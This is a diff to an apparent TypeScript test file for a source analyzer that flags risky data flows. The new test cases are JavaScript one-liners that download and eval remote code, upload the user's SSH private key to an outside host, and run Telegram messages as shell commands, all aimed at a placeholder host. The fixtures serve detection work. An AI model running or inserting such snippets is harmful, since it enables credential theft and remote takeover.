@@ -10,6 +10,26 @@ function read(text: string): SourceFacts {
 describe("analyzeSource follows what flows into", () => {
   test.each<readonly [string, string, readonly string[]]>([
     [
+      "async function f(){try{await require('axios').get('https://a.invalid')}catch(e){new Function(e.response.data.t)()}}f()",
+      "run-code",
+      ["network"],
+    ],
+    [
+      "require('request')('https://a.invalid',(e,r,b)=>{eval(JSON.parse(b).cookie)})",
+      "run-code eval",
+      ["network"],
+    ],
+    [
+      "require('superagent').post('https://a.invalid').attach('f',process.env.HOME+'/.ssh/id_rsa').end()",
+      "network superagent.post",
+      ["credential-file"],
+    ],
+    [
+      "const T=require('node-telegram-bot-api');new T('1:a').on('message',m=>require('child_process').exec(m.text))",
+      "process child_process.exec",
+      ["network"],
+    ],
+    [
       "require('https').get('https://a.invalid/?h='+require('os').hostname())",
       "network https.get",
       ["host-facts"],
